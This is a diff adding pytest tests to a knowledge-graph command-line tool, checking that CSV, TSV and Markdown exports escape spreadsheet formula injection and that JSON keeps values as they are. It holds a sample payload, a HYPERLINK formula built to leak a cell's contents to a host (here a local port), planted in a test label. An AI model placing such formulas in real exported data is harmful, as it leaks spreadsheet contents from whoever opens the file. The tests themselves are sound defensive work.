@@ -411,3 +411,54 @@ def test_the_next_build_cleans_what_a_killed_build_left(tmp_path):
     code, _, stderr = finish(kg_process("build", "--data", str(data), "--out", str(out), "--engine", "oxigraph"))
     assert code == 0, stderr
     assert sorted(p.name for p in out.iterdir()) == ["graph.trig", "manifest.json", "store"]
+
+
+# ------------------------------------------------------------------ 11. formula injection
+
+
+FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Pajala")'
+
+
+@pytest.fixture
+def formula_data(data_dir):
+    with (data_dir / "sources" / "t1.ttl").open("a", encoding="utf-8") as handle:
+        label = FORMULA.replace('"', '\\"')
+        handle.write(f'\no:evil a kg:Company ; rdfs:label "{label}"@sv ; kg:participatesIn ini:test .\n')
+        handle.write('person:at a kg:Person ; rdfs:label "@SUM(1+1)"@sv ; kg:participatesIn ini:test .\n')
+    out = data_dir.parent / "formula-build"
+    assert build(data_dir, out, "rdflib").exit_code == 0
+    return out / "graph.trig"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv", "md"])
+def test_query_output_for_spreadsheets_neutralises_formulas(formula_data, tmp_path, fmt):
+    query = 'SELECT ?l (-1.5 AS ?n) WHERE { ?x rdfs:label ?l FILTER(STRSTARTS(?l, "=") || STRSTARTS(?l, "@")) }'
+    result = run("query", "-e", query, "-f", fmt, "--graph", str(formula_data), "-o", str(tmp_path / f"out.{fmt}"))
+    assert result.exit_code == 0, result.output
+    text = (tmp_path / f"out.{fmt}").read_text(encoding="utf-8")
+    import csv
+    import io
+
+    if fmt == "md":
+        cells = [c.strip() for line in text.splitlines()[2:] for c in line.strip("|").split(" | ")]
+    else:
+        cells = [c for row in csv.reader(io.StringIO(text), delimiter="," if fmt == "csv" else "\t") for c in row]
+    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
+    assert "-1.5" in cells  # a number is no formula
+    assert not any(c.startswith(("=", "@", "+")) for c in cells)
+
+
+def test_analyze_csv_neutralises_formulas(formula_data):
+    result = run("analyze", "-f", "csv", "--graph", str(formula_data))
+    assert result.exit_code == 0, result.output
+    assert "'" + FORMULA.replace('"', '""') in result.stdout
+    assert "\n=" not in result.stdout and ",=" not in result.stdout and ",@" not in result.stdout
+
+
+def test_json_keeps_the_value_as_it_is(formula_data):
+    query = 'SELECT ?l WHERE { ?x rdfs:label ?l FILTER(STRSTARTS(?l, "=")) }'
+    result = run("query", "-e", query, "-f", "json", "--graph", str(formula_data))
+    assert result.exit_code == 0, result.output
+    import json
+
+    assert json.loads(result.stdout)["results"]["bindings"][0]["l"]["value"] == FORMULA
